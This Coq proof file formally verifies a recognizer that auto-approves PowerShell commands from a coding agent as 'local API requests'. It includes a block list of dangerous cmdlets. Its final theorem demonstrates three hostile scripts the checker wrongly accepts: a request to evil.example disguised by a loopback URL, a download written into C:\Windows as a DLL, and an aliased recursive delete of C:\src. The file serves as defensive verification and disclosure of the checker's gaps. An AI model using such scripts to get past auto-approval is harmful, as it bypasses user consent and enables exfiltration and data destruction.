(* ===== verification/LocalApi.v ===== *)
(** * Requests to a local API (crates/xcoding-tools/src/lib.rs)

    [is_local_api_request] recognizes the PowerShell commands that only call an
    HTTP service of the same machine; a user may let these run without being asked
    again.  The file models the recognizer and the three scanners it uses, and
    states what an accepted script looks like. *)

From S2P Require Import Prelude.
From S2P Require Import Protocol.
From S2P Require Import Text.
From S2P Require Import ToolArgs.

Definition BACKTICK : char := 96%N.
Definition AT : char := 64%N.
Definition DOLLAR : char := 36%N.

Definition is_local_api_invoke (expression : str) : bool :=
  starts_with $"invoke-webrequest" expression || starts_with $"invoke-restmethod" expression.

Definition is_output_char (c : char) : bool :=
  is_ascii_alphanumeric c || contains_char c $"$_.".
Definition is_local_api_output_reference (statement : str) : bool :=
  starts_with $"$" statement && forallb is_output_char statement.

Definition is_statement_separator (c : char) : bool :=
  contains_char c $";{}" || (c =? LF)%N || (c =? CR)%N.

(** The loop keeps the quote that is open and the statement read so far. *)
Fixpoint split_statements (quote : option char) (current : str) (script : str) : list str :=
  match script with
  | [] => [current]
  | c :: r =>
    match quote with
    | Some delimiter =>
      split_statements (if (c =? delimiter)%N then None else quote) (current ++ [c]) r
    | None =>
      if (c =? SQUOTE)%N || (c =? DQUOTE)%N
      then split_statements (Some c) (current ++ [c]) r
      else if is_statement_separator c
      then current :: split_statements None [] r
      else split_statements None (current ++ [c]) r
    end
  end.
Definition split_powershell_statements (script : str) : list str :=
  split_statements None [] script.

(** The place of the next [http://] or [https://]. *)
Definition next_http (script : str) : option nat :=
  let lower := to_ascii_lowercase script in
  match find_str $"http://" lower, find_str $"https://" lower with
  | Some i, Some j => Some (Nat.min i j)
  | Some i, None => Some i
  | None, o => o
  end.

Definition is_url_end (c : char) : bool :=
  is_whitespace c || (c =? SQUOTE)%N || (c =? DQUOTE)%N || (c =? BACKTICK)%N.

(** The [while] loop; [fuel] bounds its rounds, and a round moves the search by at
    least one character. *)
Fixpoint extract_urls (fuel : nat) (script : str) : list str :=
  match fuel with
  | 0 => []
  | S f =>
    match next_http script with
    | None => []
    | Some start =>
      let rest := drop start script in
      let end_ := or_else (find_char is_url_end rest) (length rest) in
      take end_ rest :: extract_urls f (drop (Nat.max end_ 1) rest)
    end
  end.
Definition extract_http_urls (script : str) : list str :=
  extract_urls (length script) script.

Definition is_authority_end (c : char) : bool := contains_char c $"/?#".

Definition is_loopback_http_url (url : str) : bool :=
  let lower := to_ascii_lowercase url in
  match first_part is_authority_end <$>
        (strip_prefix $"http://" lower <||> strip_prefix $"https://" lower) with
  | None => false
  | Some authority =>
    if is_empty authority || contains_char AT authority then false
    else match strip_prefix $"[" authority with
         | Some rest =>
           match split_once 93%N rest with
           | None => false
           | Some (host, suffix) =>
             (host =s $"::1") && (is_empty suffix || starts_with $":" suffix)
           end
         | None =>
           one_of (first_part (N.eqb COLON) authority) [$"127.0.0.1"; $"localhost"]
         end
  end.

Definition FORBIDDEN_COMMANDS : list str :=
  [$"remove-item"; $"move-item"; $"copy-item"; $"new-item"; $"set-content"; $"add-content";
   $"clear-content"; $"out-file"; $"set-itemproperty"; $"invoke-expression";
   $"start-process"; $"stop-process"; $"restart-computer"; $"set-executionpolicy"].

(** What the loop over the statements makes of one of them. *)
Inductive StatementKind := Skipped | Invoke | OtherStatement.

Definition statement_kind (statement0 : str) : StatementKind :=
  let statement := trim statement0 in
  if is_empty statement then Skipped
  else
    let statement_lower := to_ascii_lowercase statement in
    if (statement_lower =s $"try") || (statement_lower =s $"catch") then Skipped
    else if is_local_api_invoke statement_lower then Invoke
    else if match split_once 61%N statement_lower with
            | Some (_, expression) => is_local_api_invoke (trim expression)
            | None => false
            end
    then Invoke
    else if is_local_api_output_reference statement_lower then Skipped
    else OtherStatement.

(** [invoke_count] after the loop; [None] for the early [return false]. *)
Fixpoint count_invokes (invoke_count : nat) (statements : list str) : option nat :=
  match statements with
  | [] => Some invoke_count
  | s :: r =>
    match statement_kind s with
    | Skipped => count_invokes invoke_count r
    | Invoke => count_invokes (S invoke_count) r
    | OtherStatement => None
    end
  end.

Definition is_safe_local_api_script (script : str) : bool :=
  let normalized := trim script in
  if is_empty normalized then false
  else
    let lower := to_ascii_lowercase normalized in
    if contains $"$(" lower || contains_char 124%N lower || contains_char 38%N lower
       || contains_char BACKTICK lower
    then false
    else if existsb (fun command => contains command lower) FORBIDDEN_COMMANDS then false
    else
      let urls := extract_http_urls normalized in
      if is_empty urls || existsb (fun url => negb (is_loopback_http_url url)) urls then false
      else match count_invokes 0 (split_powershell_statements normalized) with
           | Some n => n =? 1
           | None => false
           end.

Definition powershell_names : list str :=
  [$"powershell"; $"powershell.exe"; $"pwsh"; $"pwsh.exe"].

(** [iter().position(p)] *)
Fixpoint position {A} (p : A -> bool) (l : list A) : option nat :=
  match l with
  | [] => None
  | x :: r => if p x then Some 0 else S <$> position p r
  end.

Definition is_path_separator (c : char) : bool := (c =? BACKSLASH)%N || (c =? SLASH)%N.

Definition is_local_api_command (args : RunCommandArgs) : bool :=
  let executable := to_ascii_lowercase (trim (last_part is_path_separator (rc_executable args))) in
  if negb (one_of executable powershell_names) then false
  else match position (fun argument => eq_ignore_ascii_case argument $"-command"
                                       || eq_ignore_ascii_case argument $"-c") (rc_args args) with
       | None => false
       | Some command_index =>
         if negb (command_index + 2 =? length (rc_args args)) then false
         else match rc_args args !! (command_index + 1) with
              | Some script => is_safe_local_api_script script
              | None => false
              end
       end.

Definition is_local_api_request `{Serde} (tool_call : ToolCall) : bool :=
  if decide (tc_name tool_call = RunCommand) then
    match parse_arguments from_run_command (tc_arguments tool_call) with
    | Ok args => is_local_api_command args
    | Err _ => false
    end
  else false.

(** ** What an accepted local API script looks like

    The scan for URLs misses no scheme, the URL test accepts exactly the loopback
    authorities, and an accepted script is one request between harmless statements.
    The last theorem shows what the recognizer does not look at. *)

(** ** The scan for URLs *)

(** A scheme, in any case, stands at the head of the text. *)
Definition scheme_here (s : str) : bool :=
  starts_with $"http://" (to_ascii_lowercase s) || starts_with $"https://" (to_ascii_lowercase s).

Lemma lower_drop i s : to_ascii_lowercase (drop i s) = drop i (to_ascii_lowercase s).
Proof. unfold to_ascii_lowercase. revert i. induction s; intros [|i]; simpl; auto. Qed.

Lemma scheme_here_drop j s :
  scheme_here (drop j s) = starts_with $"http://" (drop j (to_ascii_lowercase s))
                           || starts_with $"https://" (drop j (to_ascii_lowercase s)).
Proof. unfold scheme_here. by rewrite lower_drop. Qed.

Lemma next_http_spec s :
  match next_http s with
  | Some i => i <= length s /\ scheme_here (drop i s) = true /\
              forall j, j < i -> scheme_here (drop j s) = false
  | None => forall j, scheme_here (drop j s) = false
  end.
Proof.
  unfold next_http. pose proof (fun j => scheme_here_drop j s) as Hd.
  set (l := to_ascii_lowercase s) in *.
  assert (length l = length s) as Hl by apply length_map.
  assert (forall p j, find_str p l = None -> starts_with p (drop j l) = false) as Hnone.
  { intros p j Hn%find_str_None. apply not_true_iff_false. intros [r Hr]%starts_with_true.
    apply not_true_iff_false in Hn. apply Hn, contains_true.
    exists (take j l), r. by rewrite <- Hr, take_drop. }
  destruct (find_str $"http://" l) as [i|] eqn:Ei; destruct (find_str $"https://" l) as [j|] eqn:Ej.
  - apply find_str_Some in Ei as (Hi & Hil & Hi'). apply find_str_Some in Ej as (Hj & Hjl & Hj').
    rewrite Hd. split_and!; [lia| |].
    + destruct (Nat.min_spec i j) as [[_ ->]|[_ ->]]; rewrite ?Hi, ?Hj; [done|by rewrite orb_true_r].
    + intros k Hk. rewrite Hd, Hi', Hj' by lia. done.
  - apply find_str_Some in Ei as (Hi & Hil & Hi'). rewrite Hd, Hi. split_and!; [lia|done|].
    intros k Hk. rewrite Hd, Hi', Hnone by done. done.
  - apply find_str_Some in Ej as (Hj & Hjl & Hj'). rewrite Hd, Hj, orb_true_r. split_and!; [lia|done|].
    intros k Hk. rewrite Hd, Hj', Hnone by done. done.
  - intros j. by rewrite Hd, !Hnone.
Qed.

(** The text at a scheme is not the end of a URL. *)
Lemma scheme_here_head s :
  scheme_here s = true -> exists c r, s = c :: r /\ is_url_end c = false.
Proof.
  unfold scheme_here. rewrite orb_true_iff, !starts_with_true.
  assert (forall p r, to_ascii_lowercase s = 104%N :: p ++ r ->
            exists c r', s = c :: r' /\ is_url_end c = false) as Hh.
  { intros p r Hs. destruct s as [|c s]; [done|]. exists c, s. split; [done|].
    change (to_ascii_lowercase (c :: s)) with (lower_char c :: to_ascii_lowercase s) in Hs.
    injection Hs as Hc _. unfold lower_char in Hc.
    destruct (is_ascii_upper c); [assert (c = 72%N) as -> by lia; done | by subst c]. }
  intros [[r Hr]|[r Hr]]; [apply (Hh $"ttp://" r) | apply (Hh $"ttps://" r)]; exact Hr.
Qed.

(** The end of the URL that starts at the head of [rest]. *)
Definition url_at (rest : str) : str := take_while (fun c => negb (is_url_end c)) rest.

Lemma extract_urls_step f s :
  extract_urls (S f) s =
  match next_http s with
  | None => []
  | Some i => url_at (drop i s) :: extract_urls f (drop (i + length (url_at (drop i s))) s)
  end.
Proof.
  cbn [extract_urls]. pose proof (next_http_spec s) as Hn.
  destruct (next_http s) as [i|]; [|done]. destruct Hn as (Hi & Hs & _).
  cbv zeta. rewrite find_char_take_while. fold (url_at (drop i s)).
  f_equal; [apply take_while_take|]. rewrite drop_drop. f_equal. f_equal.
  apply scheme_here_head in Hs as (c & r & -> & Hc). unfold url_at. simpl. rewrite Hc. simpl. lia.
Qed.

Lemma url_at_length s : scheme_here s = true -> 0 < length (url_at s).
Proof.
  intros (c & r & -> & Hc)%scheme_here_head. unfold url_at. simpl. rewrite Hc. simpl. lia.
Qed.

Lemma url_at_split s : exists post, s = url_at s ++ post.
Proof.
  exists (drop_while (fun c => negb (is_url_end c)) s). unfold url_at. by rewrite take_drop_while.
Qed.

(** Every scheme of the text lies inside an extracted URL. *)
Lemma extract_urls_complete f s i :
  length s <= f -> scheme_here (drop i s) = true ->
  exists pre url post, s = pre ++ url ++ post /\ url ∈ extract_urls f s /\
    length pre <= i < length pre + length url.
Proof.
  revert s i. induction f as [|f IH]; intros s i Hf Hi.
  - destruct s; [|simpl in Hf; lia]. by rewrite drop_nil in Hi.
  - rewrite extract_urls_step. pose proof (next_http_spec s) as Hn.
    destruct (next_http s) as [k|]; [|by rewrite Hn in Hi].
    destruct Hn as (Hk & Hs & Hmin).
    assert (k <= i) as Hki.
    { destruct (decide (i < k)) as [Hlt|]; [by rewrite Hmin in Hi | lia]. }
    set (u := url_at (drop k s)). pose proof (url_at_length _ Hs) as Hu. fold u in Hu.
    destruct (decide (i < k + length u)) as [Hin|Hout].
    + destruct (url_at_split (drop k s)) as [post Hp]. fold u in Hp.
      exists (take k s), u, post. rewrite <- Hp, take_drop, length_take_le by lia.
      split_and!; [done|set_solver|lia|lia].
    + destruct (IH (drop (k + length u) s) (i - (k + length u))) as (pre & url & post & E & Hin & Hb).
      * rewrite length_drop. lia.
      * rewrite drop_drop. by replace (k + length u + (i - (k + length u))) with i by lia.
      * exists (take (k + length u) s ++ pre), url, post.
        assert (k + length u <= length s) as Hle.
        { destruct (url_at_split (drop k s)) as [p Hp]. fold u in Hp.
          apply (f_equal length) in Hp. rewrite length_drop, length_app in Hp. lia. }
        rewrite <- app_assoc, <- E, take_drop, length_app, length_take_le by lia.
        split_and!; [done|set_solver|lia|lia].
Qed.

(** ** The test of a URL *)

Definition loopback_authority (authority : str) : Prop :=
  exists host port, authority = host ++ port /\
    host ∈ [$"127.0.0.1"; $"localhost"; $"[::1]"] /\
    (port = [] \/ exists p, port = COLON :: p) /\ AT ∉ port.

Lemma one_of_loopback a : one_of a [$"127.0.0.1"; $"localhost"] = true <->
  a = $"127.0.0.1" \/ a = $"localhost".
Proof. rewrite one_of_true. set_solver. Qed.

Lemma negb_eqb_forall c s : Forall (fun x => negb (N.eqb c x) = true) s <-> c ∉ s.
Proof.
  rewrite Forall_forall. split.
  - intros H Hc. specialize (H c Hc). by rewrite N.eqb_refl in H.
  - intros H x Hx. apply negb_true_iff, N.eqb_neq. naive_solver.
Qed.

(** The part of a text before the first [c], and the rest. *)
Lemma first_part_split c s :
  exists rest, s = first_part (N.eqb c) s ++ rest /\ (rest = [] \/ exists r, rest = c :: r).
Proof.
  rewrite first_part_take_while.
  exists (drop_while (fun x => negb (N.eqb c x)) s). rewrite take_drop_while. split; [done|].
  destruct (drop_while _ s) as [|x r] eqn:E; [by left|].
  apply drop_while_head in E. apply negb_false_iff, N.eqb_eq in E as <-. eauto.
Qed.

Lemma first_part_stop c a r : c ∉ a -> first_part (N.eqb c) (a ++ c :: r) = a.
Proof.
  intros Ha. rewrite first_part_take_while, take_while_app by (by apply negb_eqb_forall).
  simpl. rewrite N.eqb_refl. simpl. by rewrite app_nil_r.
Qed.

Lemma first_part_all c a : c ∉ a -> first_part (N.eqb c) a = a.
Proof.
  intros Ha. rewrite first_part_take_while, <- (app_nil_r a), take_while_app at 1
    by (by apply negb_eqb_forall). simpl. by rewrite !app_nil_r.
Qed.

(** The tests on an authority. *)
Definition authority_ok (authority : str) : bool :=
  if is_empty authority || contains_char AT authority then false
  else match strip_prefix $"[" authority with
       | Some rest =>
         match split_once 93%N rest with
         | None => false
         | Some (host, suffix) =>
           (host =s $"::1") && (is_empty suffix || starts_with $":" suffix)
         end
       | None => one_of (first_part (N.eqb COLON) authority) [$"127.0.0.1"; $"localhost"]
       end.

Lemma authority_ok_sound a : authority_ok a = true -> loopback_authority a.
Proof.
  unfold authority_ok. destruct (is_empty a || contains_char AT a) eqn:E; [done|].
  apply orb_false_iff in E as [_ Hat]. apply contains_char_not in Hat.
  destruct (strip_prefix $"[" a) as [rest|] eqn:Hb.
  - apply strip_prefix_Some in Hb as ->.
    destruct (split_once 93%N rest) as [[host suffix]|] eqn:Hs; [|done].
    apply split_once_Some in Hs as [-> _].
    rewrite andb_true_iff, str_eqb_true, orb_true_iff, starts_with_true. intros [-> Hsuf].
    exists $"[::1]", suffix. split_and!; [done|set_solver| |].
    + destruct Hsuf as [Hsuf|[r ->]]; [left; by destruct suffix | right; by exists r].
    + intros Hin. apply Hat. rewrite !elem_of_app, elem_of_cons. auto.
  - intros Ho%one_of_loopback. destruct (first_part_split COLON a) as (port & Ha & Hp).
    exists (first_part (N.eqb COLON) a), port. split_and!; [done|set_solver|done|].
    intros Hin. apply Hat. rewrite Ha. set_solver.
Qed.

Lemma authority_ok_complete a : loopback_authority a -> authority_ok a = true.
Proof.
  intros (host & port & -> & Hh & Hp & Hat). unfold authority_ok.
  assert (contains_char AT (host ++ port) = false) as ->.
  { apply contains_char_not. rewrite elem_of_app. intros [H|H]; [|done].
    revert H. apply contains_char_not.
    repeat (apply elem_of_cons in Hh as [->|Hh]; [done|]). set_solver. }
  rewrite orb_false_r.
  assert (is_empty (host ++ port) = false) as ->.
  { repeat (apply elem_of_cons in Hh as [->|Hh]; [done|]). set_solver. }
  assert (forall h, COLON ∉ h -> first_part (N.eqb COLON) (h ++ port) = h) as Hfirst.
  { intros h Hc. destruct Hp as [->|[p ->]];
      [rewrite app_nil_r; by apply first_part_all | by apply first_part_stop]. }
  apply elem_of_cons in Hh as [->|[->|[->|Hh]%elem_of_cons]%elem_of_cons]; [..|set_solver].
  - change (strip_prefix $"[" ($"127.0.0.1" ++ port)) with (@None str).
    rewrite Hfirst; [done | by apply contains_char_not].
  - change (strip_prefix $"[" ($"localhost" ++ port)) with (@None str).
    rewrite Hfirst; [done | by apply contains_char_not].
  - change (strip_prefix $"[" ($"[::1]" ++ port)) with (Some ($"::1" ++ 93%N :: port)).
    cbv beta iota.
    rewrite (proj2 (split_once_Some 93%N _ $"::1" port)).
    + rewrite str_eqb_refl. destruct Hp as [->|[p ->]]; done.
    + split; [done | by apply contains_char_not].
Qed.

(** A URL is accepted exactly when, up to case, it is a scheme, one of the three
    loopback hosts, optionally a colon and a port part without at sign or
    delimiter, and then nothing or a path, query or fragment; in particular user
    information before the host is never accepted. *)
Theorem loopback_url_spec url :
  is_loopback_http_url url = true <->
  exists scheme authority tail,
    to_ascii_lowercase url = scheme ++ authority ++ tail /\
    (scheme = $"http://" \/ scheme = $"https://") /\
    loopback_authority authority /\
    Forall (fun c => is_authority_end c = false) authority /\
    (tail = [] \/ exists c r, tail = c :: r /\ is_authority_end c = true).
Proof.
  set (rest_of := strip_prefix $"http://" (to_ascii_lowercase url)
                  <||> strip_prefix $"https://" (to_ascii_lowercase url)).
  assert (forall rest, rest_of = Some rest <-> exists scheme,
            (scheme = $"http://" \/ scheme = $"https://") /\
            to_ascii_lowercase url = scheme ++ rest) as Hrest.
  { intros rest. unfold rest_of, or_first.
    destruct (strip_prefix $"http://" _) as [r|] eqn:E1.
    - apply strip_prefix_Some in E1. rewrite E1. split; [intros [= <-]; eauto|].
      intros (scheme & [-> | ->] & Hs); [apply app_inv_head in Hs; congruence|].
      exfalso. injection Hs. done.
    - rewrite strip_prefix_Some. split; [eauto|]. intros (scheme & [-> | ->] & Hs); [|done].
      apply strip_prefix_Some in Hs. congruence. }
  change (is_loopback_http_url url) with
    (match first_part is_authority_end <$> rest_of with
     | None => false | Some a => authority_ok a end).
  split.
  - destruct rest_of as [rest|] eqn:Er; [|done]. intros H%authority_ok_sound.
    destruct (proj1 (Hrest rest) eq_refl) as (scheme & Hs & Hu).
    rewrite first_part_take_while in H.
    set (q := fun c => negb (is_authority_end c)) in *.
    exists scheme, (take_while q rest), (drop_while q rest).
    rewrite take_drop_while. split_and!; [done|done|done| |].
    + eapply Forall_impl; [apply take_while_all|]. intros c Hc. by apply negb_true_iff.
    + destruct (drop_while q rest) as [|c r] eqn:Ed; [by left|]. right. exists c, r.
      split; [done|]. apply drop_while_head in Ed. by apply negb_false_iff.
  - intros (scheme & a & tail & Hu & Hs & Ha & Hf & Ht).
    rewrite (proj2 (Hrest (a ++ tail))) by eauto. simpl.
    rewrite first_part_take_while, take_while_app
      by (eapply Forall_impl; [exact Hf|]; intros c Hc; by rewrite Hc).
    replace (take_while _ tail) with (@nil char); [rewrite app_nil_r; by apply authority_ok_complete|].
    destruct Ht as [->|(c & r & -> & Hc)]; simpl; [done|]. by rewrite Hc.
Qed.

(** ** The statements *)

(** The statements in order, with the separators between them, are the script. *)
Fixpoint interleave (pieces : list str) (separators : str) : str :=
  match pieces, separators with
  | p :: ps, c :: cs => p ++ c :: interleave ps cs
  | p :: _, [] => p
  | [], _ => []
  end.

Lemma split_statements_spec quote current script :
  exists separators,
    length (split_statements quote current script) = S (length separators) /\
    Forall (fun c => is_statement_separator c = true) separators /\
    interleave (split_statements quote current script) separators = current ++ script.
Proof.
  revert quote current. induction script as [|c r IH]; intros quote current.
  - exists []. simpl. by rewrite app_nil_r.
  - assert (forall q, exists separators,
      length (split_statements q (current ++ [c]) r) = S (length separators) /\
      Forall (fun c => is_statement_separator c = true) separators /\
      interleave (split_statements q (current ++ [c]) r) separators = current ++ c :: r) as Hkeep.
    { intros q. destruct (IH q (current ++ [c])) as (seps & H1 & H2 & H3).
      exists seps. by rewrite H3, <- app_assoc. }
    cbn [split_statements]. destruct quote as [d|]; [apply Hkeep|].
    destruct ((c =? SQUOTE)%N || (c =? DQUOTE)%N); [apply Hkeep|].
    destruct (is_statement_separator c) eqn:E; [|apply Hkeep].
    destruct (IH None []) as (seps & H1 & H2 & H3). exists (c :: seps). simpl.
    rewrite H1, H3. auto.
Qed.

Lemma count_invokes_spec n l m :
  count_invokes n l = Some m ->
  Forall (fun s => statement_kind s <> OtherStatement) l /\
  m = n + length (List.filter (fun s => match statement_kind s with Invoke => true | _ => false end) l).
Proof.
  revert n. induction l as [|s l IH]; intros n; cbn [count_invokes List.filter].
  - intros [= <-]. split; [done|]. simpl. lia.
  - destruct (statement_kind s) eqn:E; [..|done]; intros H%IH; destruct H as [H1 H2];
      (split; [constructor; [congruence|done]|]); simpl; lia.
Qed.

(** A PowerShell script that counts as a safe request to a local API contains no
    marker of a subexpression, pipe, background call, escape or forbidden command, every
    web address in it lies in an address of this machine, and its statements are one
    request surrounded by statements without effect. *)
Theorem safe_script_shape script :
  is_safe_local_api_script script = true ->
  let text := trim script in
  (forall marker, marker ∈ [$"$("; $"|"; $"&"; $"`"] ++ FORBIDDEN_COMMANDS ->
     contains marker (to_ascii_lowercase text) = false) /\
  (exists i, scheme_here (drop i text) = true) /\
  (forall i, scheme_here (drop i text) = true ->
     exists pre url post, text = pre ++ url ++ post /\
       length pre <= i < length pre + length url /\ is_loopback_http_url url = true) /\
  exists before request after separators,
    text = interleave (before ++ request :: after) separators /\
    Forall (fun c => is_statement_separator c = true) separators /\
    statement_kind request = Invoke /\
    Forall (fun s => statement_kind s = Skipped) (before ++ after).
Proof.
  intros H text. unfold is_safe_local_api_script in H. fold text in H. cbv zeta in H.
  destruct (is_empty text) eqn:Ee; [done|].
  destruct (_ || _ || _ || _) eqn:Em in H; [done|].
  destruct (existsb _ FORBIDDEN_COMMANDS) eqn:Ef; [done|].
  destruct (is_empty (extract_http_urls text) || existsb _ (extract_http_urls text)) eqn:Eu in H;
    [done|].
  destruct (count_invokes 0 _) as [n|] eqn:Ec; [|done]. apply Nat.eqb_eq in H as ->.
  rewrite !orb_false_iff in Em. destruct Em as [[[Hm1 Hm2] Hm3] Hm4].
  apply orb_false_iff in Eu as [Eu1 Eu2]. rewrite existsb_false_elem in Ef, Eu2.
  assert (forall c s, contains_char c s = false -> contains [c] s = false) as Hc.
  { intros c s. rewrite contains_char_not, <- not_true_iff_false, contains_true.
    intros Hn (a & b & ->). set_solver. }
  split_and!.
  - intros m [Hm|Hm]%elem_of_app; [|by apply Ef].
    repeat (apply elem_of_cons in Hm as [->|Hm]; [first [exact Hm1 | by apply Hc]|]).
    set_solver.
  - unfold extract_http_urls in Eu1. destruct (length text) eqn:El; [by destruct text|].
    rewrite extract_urls_step in Eu1. pose proof (next_http_spec text) as Hn.
    destruct (next_http text) as [i|]; [|done]. exists i. naive_solver.
  - intros i Hi. destruct (extract_urls_complete (length text) text i) as (p & u & q & E & Hu & Hb);
      [lia|done|]. exists p, u, q. split_and!; [done|lia|lia|].
    specialize (Eu2 u Hu). by apply negb_false_iff.
  - apply count_invokes_spec in Ec as [Hall Hone]. simpl in Hone.
    destruct (split_statements_spec None [] text) as (seps & _ & Hsep & Htext).
    fold (split_powershell_statements text) in Htext.
    set (l := split_powershell_statements text) in *.
    set (f := fun s => match statement_kind s with Invoke => true | _ => false end) in *.
    assert (forall l', Forall (fun s => statement_kind s <> OtherStatement) l' ->
              length (List.filter f l') = 0 -> Forall (fun s => statement_kind s = Skipped) l') as H0.
    { clear. intros l'. subst f. induction 1 as [|x l' Hx _ IH]; simpl; [done|].
      destruct (statement_kind x) eqn:E; naive_solver. }
    assert (exists b r a, l = b ++ r :: a /\ statement_kind r = Invoke /\
              Forall (fun s => statement_kind s = Skipped) (b ++ a)) as (b & r & a & -> & Hr & Hs).
    { clear -Hall Hone H0. revert Hone. induction Hall as [|x l Hx Hall IH]; simpl; [done|].
      unfold f at 1. destruct (statement_kind x) eqn:E; [| |done].
      - intros (b & r & a & -> & Hr & Hf)%IH. exists (x :: b), r, a. simpl. auto.
      - simpl. intros Hn. exists [], x, l. simpl. split_and!; [done|done|]. apply H0; [done|lia]. }
    exists b, r, a, seps. split_and!; done.
Qed.

Lemma safe_script_shape_witness :
  is_safe_local_api_script $"$r = Invoke-RestMethod 'http://localhost:8080/api'; $r.items" = true /\
  exists i, scheme_here (drop i (trim $"$r = Invoke-RestMethod 'http://localhost:8080/api'; $r.items")) = true.
Proof.
  split; [vm_compute; reflexivity|].
  apply (safe_script_shape $"$r = Invoke-RestMethod 'http://localhost:8080/api'; $r.items").
  vm_compute. reflexivity.
Defined.

(** The recognizer looks at URLs that carry a scheme and at the listed command
    names only: it accepts a request to another host that is named without a scheme
    next to a loopback URL in the body, a request that writes its answer to a file of
    the caller's choice, and a parenthesized command under an alias. *)
Theorem local_api_other_effects :
  is_safe_local_api_script $"Invoke-WebRequest evil.example -Body 'http://127.0.0.1/'" = true /\
  is_safe_local_api_script $"Invoke-WebRequest http://127.0.0.1/ -OutFile C:\Windows\x.dll" = true /\
  is_safe_local_api_script $"Invoke-RestMethod http://localhost/ -Body (ri -r C:\src)" = true.
Proof. vm_compute. auto. Qed.
